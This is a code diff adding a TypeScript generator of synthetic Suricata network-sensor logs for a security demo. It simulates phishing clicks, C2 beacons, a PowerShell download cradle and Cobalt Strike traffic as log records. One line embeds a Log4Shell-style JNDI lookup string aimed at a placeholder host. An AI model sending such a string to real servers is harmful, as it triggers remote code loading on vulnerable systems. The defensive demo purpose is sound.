@@ -1,0 +1,640 @@
+import type { DemoFile } from './files';
+import type { Random } from './random';
+import { SERVICES, SIGNATURES, THREATS, type DemoCustomer, type DemoHost, type SignaturePlan } from './scenario';
+import { dayAt, eveTime, MINUTE, pastMoment } from './timeline';
+
+/** One line of sensor output and when it happened (lines are sent in time order). */
+export interface TimedLine {
+  at: number;
+  line: string;
+}
+
+type Eve = Record<string, unknown>;
+
+const BROWSER_UA =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36';
+const POWERSHELL_UA = 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4648';
+const UPDATE_UA = 'Microsoft-Delivery-Optimization/10.0';
+const APT_UA = 'Debian APT-HTTP/1.3 (2.6.1)';
+
+/** Builds one customer's Suricata EVE output. */
+export class NetworkGenerator {
+  readonly lines: TimedLine[] = [];
+  private flowSeq: bigint;
+
+  constructor(
+    private readonly random: Random,
+    private readonly customer: DemoCustomer,
+    private readonly now: number,
+    private readonly files: Map<string, DemoFile>,
+  ) {
+    this.flowSeq = BigInt(random.int(1, 2 ** 30)) * 1_000_003n;
+  }
+
+  private get workstations(): DemoHost[] {
+    return this.customer.hosts.filter((h) => h.role === 'workstation');
+  }
+  private get servers(): DemoHost[] {
+    return this.customer.hosts.filter((h) => h.role === 'server');
+  }
+  private host(name: string): DemoHost {
+    const found = this.customer.hosts.find((h) => h.name === name);
+    if (!found) throw new Error(`no host ${name} in ${this.customer.name}`);
+    return found;
+  }
+
+  private flowId(): number {
+    this.flowSeq += BigInt(this.random.int(1, 5_000_000));
+    // EVE flow ids are 64-bit; these stay below 2^53 so they are exact in any JSON reader.
+    return Number(this.flowSeq % 9_007_199_254_740_000n);
+  }
+
+  private communityId(): string {
+    return `1:${this.random.bytes(20).toString('base64')}`;
+  }
+
+  private emit(at: number, record: Eve): void {
+    this.lines.push({
+      at,
+      line: JSON.stringify({ timestamp: eveTime(at, this.random), ...record, host: this.customer.sensor }),
+    });
+  }
+
+  private base(
+    eventType: string,
+    flow: { id: number; community: string },
+    src: string,
+    srcPort: number,
+    dest: string,
+    destPort: number,
+    proto: 'TCP' | 'UDP',
+    appProto?: string,
+  ): Eve {
+    return {
+      flow_id: flow.id,
+      in_iface: 'ens192',
+      event_type: eventType,
+      src_ip: src,
+      src_port: srcPort,
+      dest_ip: dest,
+      dest_port: destPort,
+      proto,
+      ...(appProto ? { app_proto: appProto } : {}),
+      community_id: flow.community,
+    };
+  }
+
+  private newFlow() {
+    return { id: this.flowId(), community: this.communityId() };
+  }
+
+  private ephemeral(): number {
+    return this.random.int(49152, 65535);
+  }
+
+  private flowRecord(
+    at: number,
+    flow: { id: number; community: string },
+    src: string,
+    srcPort: number,
+    dest: string,
+    destPort: number,
+    proto: 'TCP' | 'UDP',
+    appProto: string | undefined,
+    bytesOut: number,
+    bytesIn: number,
+    alerted = false,
+  ): void {
+    const seconds = this.random.int(1, 120);
+    const end = at + seconds * 1000;
+    this.emit(end + this.random.int(30, 120) * 1000, {
+      ...this.base('flow', flow, src, srcPort, dest, destPort, proto, appProto),
+      flow: {
+        pkts_toserver: Math.max(1, Math.round(bytesOut / 700)),
+        pkts_toclient: Math.max(1, Math.round(bytesIn / 1100)),
+        bytes_toserver: bytesOut,
+        bytes_toclient: bytesIn,
+        start: eveTime(at, this.random),
+        end: eveTime(end, this.random),
+        age: seconds,
+        state: proto === 'TCP' ? 'closed' : 'established',
+        reason: 'timeout',
+        alerted,
+      },
+      ...(proto === 'TCP'
+        ? { tcp: { tcp_flags: '1b', syn: true, fin: true, psh: true, ack: true, state: 'closed' } }
+        : {}),
+    });
+  }
+
+  /** A DNS question and its answer from a client through the company resolver. */
+  dns(at: number, client: string, name: string, answer: string | null): void {
+    const flow = this.newFlow();
+    const port = this.ephemeral();
+    const id = this.random.int(1, 65535);
+    this.emit(at, {
+      ...this.base('dns', flow, client, port, this.customer.resolver, 53, 'UDP', 'dns'),
+      dns: { version: 2, type: 'query', id, rrname: name, rrtype: 'A', tx_id: 0, opcode: 0 },
+    });
+    this.emit(at + this.random.int(2, 40), {
+      ...this.base('dns', flow, this.customer.resolver, 53, client, port, 'UDP', 'dns'),
+      dns: {
+        version: 2,
+        type: 'answer',
+        id,
+        flags: answer ? '8180' : '8183',
+        qr: true,
+        rd: true,
+        ra: true,
+        opcode: 0,
+        rrname: name,
+        rrtype: 'A',
+        rcode: answer ? 'NOERROR' : 'NXDOMAIN',
+        ...(answer ? { answers: [{ rrname: name, rrtype: 'A', ttl: this.random.int(30, 3600), rdata: answer }] } : {}),
+      },
+    });
+  }
+
+  /** A TLS session: its handshake record and its flow. */
+  tls(at: number, client: string, server: string, sni: string, issuer: string, alert?: SignaturePlan): void {
+    const flow = this.newFlow();
+    const port = this.ephemeral();
+    const tls = {
+      subject: `CN=${sni}`,
+      issuerdn: issuer,
+      serial: this.random.hex(32).toUpperCase().match(/.{2}/g)!.join(':'),
+      fingerprint: this.random.hex(40).match(/.{2}/g)!.join(':'),
+      sni,
+      version: this.random.chance(0.8) ? 'TLS 1.3' : 'TLS 1.2',
+      notbefore: new Date(at - 40 * 24 * 3600_000).toISOString().slice(0, 19),
+      notafter: new Date(at + 50 * 24 * 3600_000).toISOString().slice(0, 19),
+      ja3: {
+        hash: this.random.hex(32),
+        string: '771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43-27,29-23-24,0',
+      },
+      ja3s: { hash: this.random.hex(32), string: '771,4865,51-43' },
+    };
+    this.emit(at, { ...this.base('tls', flow, client, port, server, 443, 'TCP', 'tls'), tls });
+    if (alert) this.alert(at + 5, flow, client, port, server, 443, 'TCP', 'tls', alert, { tls });
+    this.flowRecord(
+      at,
+      flow,
+      client,
+      port,
+      server,
+      443,
+      'TCP',
+      'tls',
+      this.random.int(900, 40_000),
+      this.random.int(4_000, 900_000),
+      !!alert,
+    );
+  }
+
+  /** An HTTP request, optionally carrying a file (fileinfo with hashes) and an alert. */
+  http(
+    at: number,
+    client: string,
+    server: string,
+    request: { hostname: string; url: string; ua: string; method?: string; status?: number; contentType?: string },
+    file?: { filename: string; magic: string; size: number; md5: string; sha1: string; sha256: string },
+    alert?: SignaturePlan,
+  ): void {
+    const flow = this.newFlow();
+    const port = this.ephemeral();
+    const length = file?.size ?? this.random.int(300, 90_000);
+    const http = {
+      hostname: request.hostname,
+      url: request.url,
+      http_user_agent: request.ua,
+      http_content_type: request.contentType ?? 'text/html',
+      http_method: request.method ?? 'GET',
+      protocol: 'HTTP/1.1',
+      status: request.status ?? 200,
+      length,
+    };
+    this.emit(at, { ...this.base('http', flow, client, port, server, 80, 'TCP', 'http'), tx_id: 0, http });
+    if (file) {
+      this.emit(at + this.random.int(50, 900), {
+        ...this.base('fileinfo', flow, server, 80, client, port, 'TCP', 'http'),
+        http,
+        fileinfo: {
+          filename: file.filename,
+          magic: file.magic,
+          gaps: false,
+          state: 'CLOSED',
+          md5: file.md5,
+          sha1: file.sha1,
+          sha256: file.sha256,
+          stored: false,
+          size: file.size,
+          tx_id: 0,
+        },
+      });
+    }
+    if (alert) this.alert(at + 3, flow, client, port, server, 80, 'TCP', 'http', alert, { http });
+    this.flowRecord(
+      at,
+      flow,
+      client,
+      port,
+      server,
+      80,
+      'TCP',
+      'http',
+      this.random.int(400, 2_000),
+      length + 400,
+      !!alert,
+    );
+  }
+
+  private alert(
+    at: number,
+    flow: { id: number; community: string },
+    src: string,
+    srcPort: number,
+    dest: string,
+    destPort: number,
+    proto: 'TCP' | 'UDP',
+    appProto: string | undefined,
+    signature: SignaturePlan,
+    context: Eve = {},
+  ): void {
+    this.emit(at, {
+      ...this.base('alert', flow, src, srcPort, dest, destPort, proto, appProto),
+      tx_id: 0,
+      alert: {
+        action: 'allowed',
+        gid: 1,
+        signature_id: signature.sid,
+        rev: signature.rev,
+        signature: signature.signature,
+        category: signature.category,
+        severity: signature.severity,
+        ...(signature.mitre ? { metadata: { mitre_technique_id: signature.mitre } } : {}),
+      },
+      ...context,
+      direction: 'to_server',
+    });
+  }
+
+  private signature(sid: number): SignaturePlan {
+    const found = SIGNATURES.find((s) => s.sid === sid);
+    if (!found) throw new Error(`no signature ${sid}`);
+    return found;
+  }
+
+  /** Everyday traffic: `count` records of every kind, spread over the last 14 days. */
+  background(count: number): void {
+    const start = this.lines.length;
+    const background = SIGNATURES.filter((s) => s.weight > 0);
+    while (this.lines.length - start < count) {
+      const at = pastMoment(this.random, this.now);
+      const kind = this.random.weighted([
+        ['web', 40],
+        ['dns', 22],
+        ['update', 6],
+        ['internal', 14],
+        ['alert', 4],
+        ['anomaly', 1.5],
+        ['speedtest', 0.3],
+      ] as const);
+      const client = this.random.pick(this.workstations);
+      if (kind === 'web') {
+        const service = this.random.pick(SERVICES);
+        this.dns(at, client.ip, service.domain, service.ip);
+        this.tls(at + this.random.int(20, 200), client.ip, service.ip, service.domain, service.issuer);
+      } else if (kind === 'dns') {
+        const service = this.random.pick(SERVICES);
+        this.dns(at, this.random.pick(this.customer.hosts).ip, service.domain, service.ip);
+      } else if (kind === 'update') {
+        this.download(at);
+      } else if (kind === 'internal') {
+        this.internal(at, client);
+      } else if (kind === 'alert') {
+        this.backgroundAlert(at, this.random.weighted(background.map((s) => [s, s.weight] as const)));
+      } else if (kind === 'anomaly') {
+        this.anomaly(at);
+      } else {
+        this.dns(at, client.ip, this.random.pick(['www.speedtest.net', 'c.speedtest.net']), '151.101.2.219');
+      }
+    }
+  }
+
+  /** A software update over plain HTTP with the file Suricata saw (hashes, no bytes). */
+  private download(at: number): void {
+    const linux = this.random.chance(0.35);
+    const host = linux
+      ? this.random.pick(this.servers.filter((s) => s.os === 'linux'))
+      : this.random.pick(this.workstations);
+    const service = this.random.pick(
+      SERVICES.filter(
+        (s) => s.http && (linux ? s.domain === 'archive.ubuntu.com' : s.domain.includes('windowsupdate')),
+      ),
+    );
+    const name = linux
+      ? `/ubuntu/pool/main/o/openssl/libssl3_3.0.2-0ubuntu1.${this.random.int(10, 19)}_amd64.deb`
+      : `/d/msdownload/update/software/defu/2026/11/am_delta_patch_1.421.${this.random.int(100, 999)}.0_${this.random.hex(8)}.exe`;
+    const size = this.random.int(80_000, 4_000_000);
+    this.dns(at, host.ip, service.domain, service.ip);
+    this.http(
+      at + 150,
+      host.ip,
+      service.ip,
+      {
+        hostname: service.domain,
+        url: name,
+        ua: linux ? APT_UA : UPDATE_UA,
+        contentType: linux ? 'application/vnd.debian.binary-package' : 'application/octet-stream',
+      },
+      {
+        filename: name,
+        magic: linux ? 'Debian binary package (format 2.0)' : 'PE32+ executable (GUI) x86-64, for MS Windows',
+        size,
+        md5: this.random.hex(32),
+        sha1: this.random.hex(40),
+        sha256: this.random.hex(64),
+      },
+    );
+  }
+
+  /** Traffic inside the company: SMB to the file server, LDAP and Kerberos to the domain controller. */
+  private internal(at: number, client: DemoHost): void {
+    const server = this.random.pick(this.servers);
+    const [port, appProto] = this.random.pick([
+      [445, 'smb'],
+      [389, 'ldap'],
+      [88, 'krb5'],
+      [443, 'tls'],
+      [5432, undefined],
+    ] as const);
+    const flow = this.newFlow();
+    this.flowRecord(
+      at,
+      flow,
+      client.ip,
+      this.ephemeral(),
+      server.ip,
+      port,
+      'TCP',
+      appProto,
+      this.random.int(500, 80_000),
+      this.random.int(500, 3_000_000),
+    );
+  }
+
+  private anomaly(at: number): void {
+    const flow = this.newFlow();
+    const [type, event, layer] = this.random.pick([
+      ['stream', 'stream.pkt_invalid_timestamp', 'proto_detect'],
+      ['stream', 'stream.3whs_synack_with_wrong_ack', 'proto_detect'],
+      ['decode', 'decoder.ipv4.trunc_pkt', 'decode'],
+      ['applayer', 'applayer.APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION', 'proto_detect'],
+    ] as const);
+    const client = this.random.pick(this.customer.hosts);
+    this.emit(at, {
+      ...this.base('anomaly', flow, client.ip, this.ephemeral(), this.random.pick(SERVICES).ip, 443, 'TCP'),
+      anomaly: { type, event, layer },
+    });
+  }
+
+  private backgroundAlert(at: number, signature: SignaturePlan): void {
+    const flow = this.newFlow();
+    if (signature.kind === 'scan' || signature.kind === 'exploit') {
+      const scanner = this.random.pick(THREATS.scanners);
+      const target = this.random.pick(this.servers);
+      const port =
+        signature.sid === 2001219 ? 22 : signature.sid === 2002910 ? 5800 : signature.sid === 2010935 ? 1433 : 80;
+      const appProto = port === 80 ? 'http' : undefined;
+      const context: Eve =
+        port === 80
+          ? {
+              http: {
+                hostname: target.ip,
+                url: signature.kind === 'exploit' ? '/?x=${jndi:ldap://192.0.2.201:1389/Exploit}' : '/',
+                http_user_agent:
+                  signature.sid === 2024364 ? 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' : 'curl/7.88.1',
+                http_method: 'GET',
+                protocol: 'HTTP/1.1',
+                status: 404,
+                length: 162,
+              },
+            }
+          : {};
+      this.alert(at, flow, scanner, this.ephemeral(), target.ip, port, 'TCP', appProto, signature, context);
+      this.flowRecord(at, flow, scanner, this.ephemeral(), target.ip, port, 'TCP', appProto, 60, 0, true);
+      return;
+    }
+    const client = this.random.pick(this.customer.hosts);
+    if (signature.sid === 2013028) {
+      this.http(
+        at,
+        client.ip,
+        '151.101.66.132',
+        { hostname: 'deb.debian.org', url: '/debian/dists/bookworm/InRelease', ua: 'curl/8.4.0' },
+        undefined,
+        signature,
+      );
+    } else if (signature.sid === 2012648) {
+      this.tls(
+        at,
+        client.ip,
+        '162.125.69.18',
+        'client.dropbox.com',
+        'C=US, O=DigiCert Inc, CN=DigiCert TLS RSA SHA256 2020 CA1',
+        signature,
+      );
+    } else if (signature.sid === 2033966) {
+      this.dns(at, client.ip, 'relay-8f3a21c4.net.anydesk.com', '195.181.174.51');
+      this.alert(at + 2, flow, client.ip, this.ephemeral(), this.customer.resolver, 53, 'UDP', 'dns', signature, {
+        dns: { query: [{ type: 'query', rrname: 'relay-8f3a21c4.net.anydesk.com', rrtype: 'A' }] },
+      });
+    } else if (signature.sid === 2027865) {
+      const name = this.random.pick(['status.backblaze.cloud', 'metrics.portal.cloud', 'api.sendgrid.cloud']);
+      this.dns(at, client.ip, name, `104.18.${this.random.int(0, 255)}.${this.random.int(1, 254)}`);
+      this.alert(at + 2, flow, client.ip, this.ephemeral(), this.customer.resolver, 53, 'UDP', 'dns', signature, {
+        dns: { query: [{ type: 'query', rrname: name, rrtype: 'A' }] },
+      });
+    } else if (signature.sid === 2031071) {
+      this.http(
+        at,
+        client.ip,
+        '192.0.2.160',
+        { hostname: 'promo-coupons.top', url: '/c/landing.html', ua: BROWSER_UA },
+        undefined,
+        signature,
+      );
+    } else {
+      this.http(
+        at,
+        client.ip,
+        '23.50.52.93',
+        {
+          hostname: 'www.dhl.com',
+          url: '/flash/version.xml',
+          ua: 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)',
+        },
+        undefined,
+        signature,
+      );
+    }
+  }
+
+  /** The attacks of the story, at fixed days of the last two weeks. `beacons` bounds the repeated C2 traffic. */
+  scenario(beacons: number): void {
+    if (this.customer.key === 'northwind') this.northwind(beacons);
+    else this.aurora(beacons);
+  }
+
+  private fileOf(name: string, path: string, magic: string) {
+    const file = this.files.get(name);
+    if (!file) throw new Error(`no file ${name}`);
+    return { filename: path, magic, size: file.content.length, md5: file.md5, sha1: file.sha1, sha256: file.sha256 };
+  }
+
+  private northwind(beacons: number): void {
+    // Day -3: the invoice macro on NW-WS-017 fetches the loader, which then beacons every ~10 minutes.
+    const victim = this.host('NW-WS-017');
+    const opened = dayAt(this.now, 3, 9, 17);
+    this.dns(opened + 40_000, victim.ip, THREATS.c2Domain, THREATS.c2Ip);
+    this.tls(opened + 42_000, victim.ip, THREATS.c2Ip, THREATS.c2Domain, "C=US, O=Let's Encrypt, CN=R11");
+    this.http(
+      opened + 44_000,
+      victim.ip,
+      THREATS.c2Ip,
+      {
+        hostname: THREATS.c2Domain,
+        url: '/s/a.bin',
+        ua: 'Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)',
+        contentType: 'application/octet-stream',
+      },
+      this.fileOf('msoffsync.dll', '/s/a.bin', 'PE32+ executable (DLL) (GUI) x86-64, for MS Windows'),
+    );
+    const beacon = this.signature(2049108);
+    for (let i = 0; i < beacons; i++) {
+      const at = opened + 3 * MINUTE + i * (10 * MINUTE + this.random.int(-40, 40) * 1000);
+      if (at > this.now - MINUTE) break;
+      this.tls(at, victim.ip, THREATS.c2Ip, THREATS.c2Domain, "C=US, O=Let's Encrypt, CN=R11", beacon);
+    }
+    // Day -5: a PowerShell download cradle on NW-WS-023, then the Cobalt Strike team server.
+    const okafor = this.host('NW-WS-023');
+    const cradle = dayAt(this.now, 5, 14, 2);
+    this.http(
+      cradle,
+      okafor.ip,
+      THREATS.stagerIp,
+      { hostname: THREATS.stagerIp, url: '/content/upd.ps1', ua: POWERSHELL_UA, contentType: 'text/plain' },
+      this.fileOf('upd.ps1', '/content/upd.ps1', 'ASCII text, with very long lines'),
+      this.signature(2049112),
+    );
+    const cobalt = this.signature(2016683);
+    for (let i = 0; i < Math.max(2, Math.floor(beacons / 2)); i++) {
+      const at = cradle + 2 * MINUTE + i * 17 * MINUTE;
+      this.http(
+        at,
+        okafor.ip,
+        THREATS.teamServerIp,
+        {
+          hostname: THREATS.teamServerIp,
+          url: '/jquery-3.3.1.min.js',
+          ua: BROWSER_UA,
+          contentType: 'application/javascript',
+        },
+        undefined,
+        cobalt,
+      );
+    }
+    // The phishing link in the parcel mail, clicked from NW-WS-040 on day -1.
+    const click = dayAt(this.now, 1, 11, 48);
+    const costa = this.host('NW-WS-040');
+    this.dns(click, costa.ip, THREATS.phishDomain, '192.0.2.160');
+    this.tls(click + 900, costa.ip, '192.0.2.160', THREATS.phishDomain, "C=US, O=Let's Encrypt, CN=R10");
+    // Bandwidth tests from the depot.
+    for (const daysAgo of [9, 6, 2])
+      this.dns(dayAt(this.now, daysAgo, 12, 30), this.host('NW-WS-031').ip, 'www.speedtest.net', '151.101.2.219');
+  }
+
+  private aurora(beacons: number): void {
+    // Day -2: the fake lab results downloaded and run on AC-LAB-02; the stealer checks in.
+    const lab = this.host('AC-LAB-02');
+    const download = dayAt(this.now, 2, 10, 36);
+    this.dns(download, lab.ip, THREATS.payloadDomain, THREATS.payloadIp);
+    this.http(
+      download + 1500,
+      lab.ip,
+      THREATS.payloadIp,
+      {
+        hostname: THREATS.payloadDomain,
+        url: '/download/Lab_Results_2291.pdf.exe',
+        ua: BROWSER_UA,
+        contentType: 'application/pdf',
+      },
+      this.fileOf(
+        'Lab_Results_2291.pdf.exe',
+        'Lab_Results_2291.pdf.exe',
+        'PE32 executable (GUI) Intel 80386, for MS Windows',
+      ),
+      this.signature(2049151),
+    );
+    const checkin = this.signature(2049140);
+    for (let i = 0; i < Math.max(2, Math.floor(beacons / 2)); i++) {
+      const at = download + 4 * MINUTE + i * 30 * MINUTE;
+      this.http(
+        at,
+        lab.ip,
+        THREATS.payloadIp,
+        { hostname: THREATS.payloadIp, url: '/gate.php', ua: 'Mozilla/5.0', method: 'POST', contentType: 'text/plain' },
+        undefined,
+        checkin,
+      );
+    }
+    // Day -6: RDP password guessing against AC-RDS-01 from a scanner, then its beacon to the team server.
+    const rds = this.host('AC-RDS-01');
+    const guessing = dayAt(this.now, 6, 2, 10);
+    for (let i = 0; i < 30; i++) {
+      const flow = this.newFlow();
+      this.flowRecord(
+        guessing + i * 20_000,
+        flow,
+        THREATS.scanners[1],
+        this.ephemeral(),
+        rds.ip,
+        3389,
+        'TCP',
+        'rdp',
+        2_400,
+        3_100,
+      );
+    }
+    const cobalt = this.signature(2016683);
+    for (let i = 0; i < Math.max(2, Math.floor(beacons / 3)); i++) {
+      this.http(
+        guessing + 50 * MINUTE + i * 23 * MINUTE,
+        rds.ip,
+        THREATS.teamServerIp,
+        {
+          hostname: THREATS.teamServerIp,
+          url: '/jquery-3.3.1.min.js',
+          ua: BROWSER_UA,
+          contentType: 'application/javascript',
+        },
+        undefined,
+        cobalt,
+      );
+    }
+    // The "mailbox full" link clicked from AC-ADM-03 on day -4.
+    const click = dayAt(this.now, 4, 15, 3);
+    const adm = this.host('AC-ADM-03');
+    this.dns(click, adm.ip, THREATS.phishDomain, '192.0.2.160');
+    this.http(
+      click + 700,
+      adm.ip,
+      '192.0.2.160',
+      { hostname: THREATS.phishDomain, url: `${THREATS.phishUrlPath}?u=s.adeyemi`, ua: BROWSER_UA },
+      undefined,
+      this.signature(2031071),
+    );
+    for (const daysAgo of [11, 3])
+      this.dns(dayAt(this.now, daysAgo, 16, 5), this.host('AC-REC-02').ip, 'www.speedtest.net', '151.101.2.219');
+  }
+}
